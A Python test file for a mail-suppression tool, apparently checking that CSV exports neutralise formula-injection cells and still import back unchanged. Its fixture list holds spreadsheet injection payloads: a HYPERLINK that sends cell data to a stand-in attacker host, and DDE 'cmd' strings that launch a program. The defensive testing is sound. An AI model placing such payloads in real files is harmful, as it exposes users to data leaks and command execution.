"""CSV exports are safe to open in a spreadsheet, and still import back as they were."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from collections.abc import Callable
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from smtpguard.store.importfile import csv_cell, csv_value

Cli = Callable[..., subprocess.CompletedProcess[str]]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    ("-bob@example.com", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+tag@example.com", "+cmd|' /C calc'!A0"),
    ("=eq@example.com", "-2+3"),
    ("quote@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("'q@example.com", "'=already quoted"),
    ("plain@example.com", "'just a quote"),
    ("two@example.com", "''=two quotes"),
]


def write_import(path: Path) -> None:
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["address", "reason", "diagnostic"])
        for address, diagnostic in HOSTILE:
            w.writerow([address, "userunknown", csv_cell(diagnostic)])


def test_export_neutralises_cells_that_start_like_a_formula(cli: Cli, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    write_import(source)
    assert cli("suppression", "import", str(source)).returncode == 0
    for args in (("export",), ("list", "--format", "csv")):
        out = cli("suppression", *args)
        assert out.returncode == 0, out.stderr
        rows = list(csv.reader(io.StringIO(out.stdout)))
        assert len(rows) == 1 + len(HOSTILE)
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (args, row)
        cells = {row[0] for row in rows[1:]}
        assert "'-bob@example.com" in cells and "'=eq@example.com" in cells
        # A quote that is the value's own, not followed by a formula character, stays.
        assert "'q@example.com" in cells


def test_export_of_hostile_cells_imports_back_unchanged(cli: Cli, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    write_import(source)
    assert cli("suppression", "import", str(source)).returncode == 0
    exported = tmp_path / "out.csv"
    assert cli("suppression", "export", "-o", str(exported)).returncode == 0
    other = tmp_path / "other"
    r = cli("--data-dir", str(other), "suppression", "import", str(exported))
    assert r.returncode == 0, r.stderr
    mine = json.loads(cli("suppression", "list", "--format", "json").stdout)
    theirs = json.loads(
        cli("--data-dir", str(other), "suppression", "list", "--format", "json").stdout
    )
    assert theirs == mine
    diagnostics = {e["address"]: e["diagnostic"] for e in mine}
    assert diagnostics == {a: d for a, d in HOSTILE}


@given(st.text(max_size=12))
def test_csv_cell_round_trips_and_never_starts_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert not cell.startswith(FORMULA_START)
    assert csv_value(cell) == value
